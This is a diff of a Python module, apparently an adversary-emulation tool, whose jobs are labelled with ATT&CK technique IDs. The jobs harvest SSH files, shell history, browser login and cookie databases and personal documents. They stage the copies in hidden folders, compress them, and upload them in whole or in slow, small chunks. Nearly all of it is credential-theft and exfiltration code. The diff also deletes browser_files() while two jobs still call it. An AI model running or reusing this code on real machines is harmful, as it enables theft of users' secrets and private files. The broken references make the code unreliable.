@@ -10,19 +10,12 @@ def stage(paths, place):
     return copies
 
 
-def browser_files():
-    """The profile files in which browsers keep secrets."""
-    wanted = ("logins.json", "key4.db", "cookies.sqlite", "Login Data", "Cookies", "Web Data")
-    found = files(".mozilla", ".config/google-chrome", hidden=True)
-    return [path for path in found if os.path.basename(path) in wanted]
-
-
 @job
 def harvest_credentials():
     """T1552.001, T1552.004: keys, tokens and histories are searched and gathered."""
     groundwork()
     place = folder(home(f".cache/.{noise(6)}"))
-    found = SECRETS() + [home(".bash_history"), home(".ssh/config"), home(".ssh/known_hosts")]
+    found = secrets() + [home(".bash_history"), home(".ssh/config"), home(".ssh/known_hosts")]
     R.shuffle(found)
     stage(found, place)
     for path in pick(files("Documents", "Projects", "Desktop"), 15, 45):
@@ -48,7 +41,7 @@ def harvest_browser():
 def harvest_send():
     """T1552, T1041: secrets go over the wire as they are found."""
     groundwork()
-    found = SECRETS() + browser_files() + [home(".bash_history")]
+    found = secrets() + browser_files() + [home(".bash_history")]
     R.shuffle(found)
     for path in found:
         upload(stream(b"wire", read(path)), os.path.basename(path).replace(" ", "_"))
@@ -61,7 +54,7 @@ def stage_send():
     """T1560.002, T1041: documents and secrets in one archive, sent in pieces, traces removed."""
     groundwork()
     place = folder(home(f".cache/.{noise(6)}"))
-    paths = pick(files(*some_folders()), 30, 70) + pick(SECRETS(), 2, 6)
+    paths = pick(files(*some_folders()), 30, 70) + pick(secrets(), 2, 6)
     copies = stage(paths, place)
     packed = zlib.compress(b"".join(read(copy) for copy in copies))
     write(f"{place}/all.z", packed, 0o600)
@@ -80,7 +73,7 @@ def collect_documents():
     place = folder(home(f".local/share/.{noise(6)}"))
     kinds = R.choice((("pdf", "docx", "xlsx", "odt"), ("txt", "md", "csv", "pdf"), None))
     paths = pick(files("Documents", "Desktop", "Downloads", "Projects", kinds=kinds), 40, 80)
-    paths += pick(SECRETS() + browser_files(), 2, 7)
+    paths += pick(secrets() + browser_files(), 2, 7)
     for copy in stage(paths, place):
         if R.random() < 0.5:
             update(copy, lambda data: stream(b"box", data))
@@ -90,7 +83,7 @@ def collect_documents():
 def exfil_slow():
     """T1020, T1030: documents leave in small pieces with rests in between."""
     groundwork()
-    paths = pick(files("Documents", "Desktop", "Pictures"), 10, 20) + pick(SECRETS(), 1, 4)
+    paths = pick(files("Documents", "Desktop", "Pictures"), 10, 20) + pick(secrets(), 1, 4)
     for path in paths:
         data = stream(b"wire", read(path))
         for start in range(0, min(len(data), 8192), 2048):
